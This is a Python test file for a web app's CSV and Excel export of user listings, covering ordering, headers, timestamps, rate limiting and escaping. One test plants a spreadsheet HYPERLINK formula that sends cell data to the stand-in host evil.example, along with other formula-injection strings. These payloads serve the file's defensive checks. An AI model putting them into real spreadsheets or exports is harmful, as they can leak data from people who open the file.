"""CSV and Excel: the whole listing, in its order, whatever the page; nothing in it is taken for a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any
from zipfile import ZipFile

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from quart import Quart
from quart.typing import TestClientProtocol as Client

from rowcast.database import Database
from rowcast.routes.answers.content_negotiation import EXPORTS
from rowcast.routes.table import csv_export, xlsx_encoder
from rowcast.tables.read_in_batches import ROWS
from tests.conftest import Outside, make_user
from tests.live.pages import NAMES
from tests.routes.asking import JSON, PAGE, PART, Got, ask

CSV = {"Accept": "text/csv"}
MOMENTS = ("created", "changed")
FIELDS = ["id", "version", "created", "changed", "username", "email", "role", "status"]


def rows(got: Got) -> list[dict[str, str]]:
    """Return the rows of a file, as Python's own reader finds them."""
    assert got.status == 200
    assert got.text.startswith("\ufeff"), "Excel would take it for another encoding"
    return list(csv.DictReader(io.StringIO(got.text[1:], newline=""), strict=True))


async def sheet(client: Client, path: str = "/users.xlsx") -> list[tuple[Any, ...]]:
    """Return the cells of the only sheet of a workbook, row by row, as another library reads them."""
    response = await client.get(path)
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(await response.get_data(as_text=False)))
    (found,) = book.worksheets
    for row in found.iter_rows():
        for cell in row:
            assert cell.data_type != "f", "no cell is a formula"
    return [
        tuple(unescape(value) if isinstance(value, str) else value for value in row)
        for row in found.iter_rows(values_only=True)
    ]


def fill(outside: Outside, count: int) -> None:
    """Add so many users, every third an administrator."""
    insert = "INSERT INTO users (username, email, role) VALUES (?, ?, ?)"
    people = (
        (f"User {n:04}", f"u{n % 7}.{n}@example.org", "member" if n % 3 else "administrator") for n in range(count)
    )
    outside.execute_many(*((insert, user) for user in people))


@pytest.mark.parametrize("query", ["", "sort=-email", "role=member&sort=email", "q=user+000", "q=r&role=administrator"])
async def test_all_rows_of_a_listing_come_in_its_order(client: Client, outside: Outside, query: str) -> None:
    fill(outside, 2 * ROWS + 70)
    pages: list[Any] = []
    while (page := (await ask(client, "GET", f"/users?{query}&size=100&page={len(pages) // 100 + 1}", JSON)).json)[
        "rows"
    ]:
        pages += page["rows"]
        if page["page"] == page["pages"]:
            break
    for path, reader in ((f"/users?{query}&page=2&size=25", CSV), (f"/users.csv?{query}", PAGE)):
        found = rows(await ask(client, "GET", path, reader))
        assert found == [
            {name: value[:19] if name in MOMENTS else str(value) for name, value in row.items()} for row in pages
        ]
    assert len(found) == page["total"] > 0
    names, *cells = await sheet(client, f"/users.xlsx?{query}&page=2")
    assert names == tuple(FIELDS)
    assert [row[0] for row in cells] == [row["id"] for row in pages]
    for cell, (name, value) in zip(cells[0], pages[0].items(), strict=True):
        if name in MOMENTS:
            assert abs((cell - datetime.fromisoformat(value[:-1])).total_seconds()) < 0.001
        else:
            assert cell == value


async def test_the_head_of_a_file_says_what_it_is(client: Client) -> None:
    for method in ("GET", "HEAD"):
        got = await ask(client, method, "/users.csv", PART)
        assert got.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
        assert got.headers["Content-Disposition"] == 'attachment; filename="users.csv"'
        assert "Accept" in got.headers["Vary"]
        assert (got.text == "") == (method == "HEAD")
    got = await ask(client, "GET", "/users.csv", PAGE)
    assert got.text == "\ufeff" + ",".join(f'"{name}"' for name in FIELDS) + "\r\n", (
        "without rows there are the names of the fields"
    )
    got = await ask(client, "HEAD", "/users.xlsx", PAGE)
    assert (got.status, got.text) == (200, "")
    assert got.headers["Content-Type"] == EXPORTS["xlsx"]
    assert got.headers["Content-Disposition"] == 'attachment; filename="users.xlsx"'
    assert await sheet(client) == [tuple(FIELDS)]
    assert (await client.get("/users", headers={"Accept": EXPORTS["xlsx"]})).content_type == EXPORTS["xlsx"]


@pytest.mark.parametrize(
    "sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"], ids=ascii
)
async def test_no_cell_is_a_formula(client: Client, outside: Outside, sign: str) -> None:
    name = f'{sign}HYPERLINK("http://evil.example?"&A1,"a")'
    outside.execute("INSERT INTO users (username, email) VALUES (?, ?)", name, f"{sign}a;=1+1")
    got = await ask(client, "GET", "/users.csv", PAGE)
    (row,) = rows(got)
    assert (row["username"], row["email"]) == (f"'{name}", f"'{sign}a;'=1+1")
    (_, cells) = await sheet(client)
    assert cells[4:6] == (name, f"{sign}a;=1+1")


@pytest.mark.parametrize("separator", [";", "\t", '";"', ";  ", '";;"\t'], ids=ascii)
@pytest.mark.parametrize("sign", "=+-@\uff1d", ids=ascii)
async def test_no_part_of_a_cell_is_a_formula_where_others_separate(
    client: Client, outside: Outside, separator: str, sign: str
) -> None:
    name = f"x{separator}{sign}1+1;y"
    outside.execute("INSERT INTO users (username, email) VALUES (?, 'a;b@example.org')", name)
    (row,) = rows(await ask(client, "GET", "/users.csv", PAGE))
    assert row["username"] == f"x{separator}'{sign}1+1;y"
    assert row["email"] == "a;b@example.org"
    (_, cells) = await sheet(client)
    assert cells[4] == name


async def test_a_moment_is_one_to_spreadsheets_whatever_its_part_of_a_second(client: Client, outside: Outside) -> None:
    for number, created in enumerate(("2026-11-29 12:53:00.000000", "0001-01-01 00:00:00.000000")):
        outside.execute(
            f"INSERT INTO users (username, email, created, changed) VALUES ('{number}', '{number}@b.c',"
            f" '{created}', '2026-11-29 12:53:59.999999')"
        )
    found = rows(await ask(client, "GET", "/users.csv", PAGE))
    assert [row["created"] for row in found] == ["2026-11-29T12:53:00", "0001-01-01T00:00:00"]
    assert {row["changed"] for row in found} == {"2026-11-29T12:53:59"}
    _, one, other = await sheet(client)
    assert (one[2], other[2]) == (datetime(2026, 11, 29, 12, 53), "0001-01-01T00:00:00Z")  # noqa: DTZ001


async def test_what_is_no_formula_comes_as_it_is(client: Client, database: Database) -> None:
    names = [name.replace("\r", " ") for name in NAMES]
    for number, name in enumerate((*names, 'a "quoted", name')):
        await make_user(database, name, email=f"x{number}@example.org")
    found = rows(await ask(client, "GET", "/users.csv?sort=email", PAGE))
    assert [row["username"] for row in found] == [*names, 'a "quoted", name']


async def test_text_in_a_workbook_is_what_it_was(client: Client, database: Database) -> None:
    names = ["007", "12345678901234567890", "1E5", "TRUE", "2026-11-29", "two  spaces", "_x0041_"]
    names += ["<b>&amp;", "中文 🎉"]
    for number, name in enumerate((*names, *NAMES)):
        await make_user(database, name.replace("\r", " "), email=f"x{number:03}@example.org")
    cells = [row[4] for row in (await sheet(client, "/users.xlsx?sort=email"))[1:]]
    assert cells[: len(names)] == names
    assert len(cells) == len(names) + len(NAMES)


def test_a_workbook_goes_on_in_another_sheet_when_one_is_full(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_encoder, "LAST_ROW", 3)
    encoder = xlsx_encoder.XlsxEncoder(["number", "text"])
    made = encoder.begin() + b"".join(encoder.rows([(n, f"<{n}>\0\ufffe"), (10**15, n / 2)]) for n in range(3))
    book = openpyxl.load_workbook(io.BytesIO(made + encoder.end()))
    assert [list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets] == [
        [("number", "text"), (n, f"<{n}>_x0000__xFFFE_"), ("1000000000000000", n / 2)] for n in range(3)
    ]
    assert [sheet.sheet_view.tabSelected for sheet in book.worksheets] == [True, None, None]


def test_a_workbook_that_nobody_wants_to_its_end_is_let_go() -> None:
    encoder = xlsx_encoder.XlsxEncoder(["number"])
    made = encoder.begin() + encoder.rows([(1,)])
    encoder.close()
    assert ZipFile(io.BytesIO(made + encoder.begin())).testzip() is None


@pytest.mark.parametrize("query", ["sort=nonsense", "page=0", "nonsense=1"])
async def test_a_listing_that_there_is_not_is_a_problem(client: Client, query: str) -> None:
    for path, reader in (("/users.csv", PAGE), ("/users.xlsx", PAGE), ("/users", CSV)):
        got = await ask(client, "GET", f"{path}?{query}", reader)
        assert (got.status, set(got.json["errors"])) == (400, {query.partition("=")[0]})


async def test_what_has_no_rows_to_export_is_not_acceptable(client: Client, database: Database) -> None:
    await make_user(database)
    for path in ("/users/1", "/users/new", "/users/table"):
        assert (await ask(client, "GET", path, CSV)).json["status"] == 406
    for ending in EXPORTS:
        assert (await ask(client, "GET", f"/users/1.{ending}", PAGE)).json["status"] == 404
    assert (await ask(client, "POST", "/users", CSV, form={})).json["status"] == 422


async def test_one_too_many_is_refused_for_a_while(client: Client, monkeypatch: pytest.MonkeyPatch) -> None:
    for _ in range(csv_export.AT_ONCE + 1):
        assert rows(await ask(client, "GET", "/users.csv", PAGE)) == [], "those that have ended do not count"
    monkeypatch.setattr(csv_export, "AT_ONCE", 0)
    got = await ask(client, "GET", "/users.csv", PAGE)
    assert (got.status, got.json["title"]) == (503, "Too many exports are under way.")
    assert int(got.headers["Retry-After"]) > 0


async def test_a_database_that_fails_is_an_error_and_no_half_of_a_file(app: Quart, outside: Outside) -> None:
    outside.execute("ALTER TABLE users RENAME TO lost")
    for _ in range(csv_export.AT_ONCE + 1):
        got = await ask(app.test_client(), "GET", "/users.csv", PAGE)
        assert (got.status, got.json["status"]) == (503, 503)
